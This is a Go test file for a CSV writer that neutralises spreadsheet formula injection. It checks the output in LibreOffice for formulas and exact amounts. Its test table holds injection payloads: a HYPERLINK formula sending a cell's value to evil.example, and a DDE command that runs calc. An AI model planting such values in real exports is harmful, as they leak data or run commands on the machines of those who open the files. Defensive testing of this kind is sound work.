package safecsv_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"strconv"
	"testing"

	"tokenmeter/internal/safecsv"
	"tokenmeter/internal/testkit/sheettest"
)

// hostile is a table of ids that spreadsheets take as formulas, DDE
// commands or signed numbers, next to amounts, some negative.
var hostile = [][]string{
	{"tenant", "model", "charge", "note"},
	{`=HYPERLINK("http://evil.example/?"&A1,"invoice")`, `=cmd|' /C calc'!A0`, "-12.5", "a;=1+1"},
	{"+1+1", "@SUM(1+1)", "0.000000001", "x\t=2+2"},
	{"-5", "＝1+1", "1234567.123456789", " =3+3"},
	{"'=4+4", "a\n=5+5", "-0.3", "ok;-1;@x"},
}

var numeric = []bool{false, false, true, false}

func writeSafe(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := safecsv.NewWriter(&buf, numeric)
	for _, rec := range hostile {
		if err := w.Write(rec); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestSpreadsheet opens the hostile table in LibreOffice Calc with formulas
// evaluated: written by encoding/csv it has formulas; written by safecsv it
// has none whether fields are split on commas, semicolons or tabs, every
// amount is a number of its exact value, and every text cell shows what the
// file holds.
func TestSpreadsheet(t *testing.T) {
	var plain bytes.Buffer
	cw := csv.NewWriter(&plain)
	if err := cw.WriteAll(hostile); err != nil {
		t.Fatal(err)
	}
	safe := writeSafe(t)
	sheets := sheettest.Open(t, sheettest.Comma, plain.Bytes(), safe)
	formulas := 0
	for _, c := range sheets[0].Cells() {
		if c.Formula != "" {
			formulas++
		}
	}
	if formulas < 2 {
		t.Errorf("encoding/csv's file opened with %d formulas, want at least 2 (is the spreadsheet evaluating formulas?)", formulas)
	}

	recs, err := csv.NewReader(bytes.NewReader(safe)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := sheets[1]
	if len(got) != len(hostile) {
		t.Fatalf("got %d rows, want %d", len(got), len(hostile))
	}
	for r, row := range got {
		if len(row) != len(hostile[r]) {
			t.Errorf("row %d: %d cells, want %d: %+v", r, len(row), len(hostile[r]), row)
			continue
		}
		for c, cell := range row {
			if cell.Formula != "" {
				t.Errorf("row %d col %d: formula %q from %q", r, c, cell.Formula, recs[r][c])
			}
			if r > 0 && numeric[c] {
				want, _ := strconv.ParseFloat(hostile[r][c], 64)
				v, err := strconv.ParseFloat(cell.Value, 64)
				// A spreadsheet keeps 15 significant digits.
				if cell.Type != "float" || err != nil || math.Abs(v-want) > 1e-14*math.Abs(want) {
					t.Errorf("row %d col %d: %s %q, want the number %s", r, c, cell.Type, cell.Value, hostile[r][c])
				}
				continue
			}
			if cell.Type != "string" || cell.Text != recs[r][c] {
				t.Errorf("row %d col %d: %s %q, want the text %q", r, c, cell.Type, cell.Text, recs[r][c])
			}
		}
	}

	for _, sep := range []byte{sheettest.Semicolon, sheettest.Tab} {
		for _, c := range sheettest.Open(t, sep, safe)[0].Cells() {
			if c.Formula != "" {
				t.Errorf("split on %q: row %d col %d: formula %q", sep, c.Row, c.Col, c.Formula)
			}
		}
	}
}
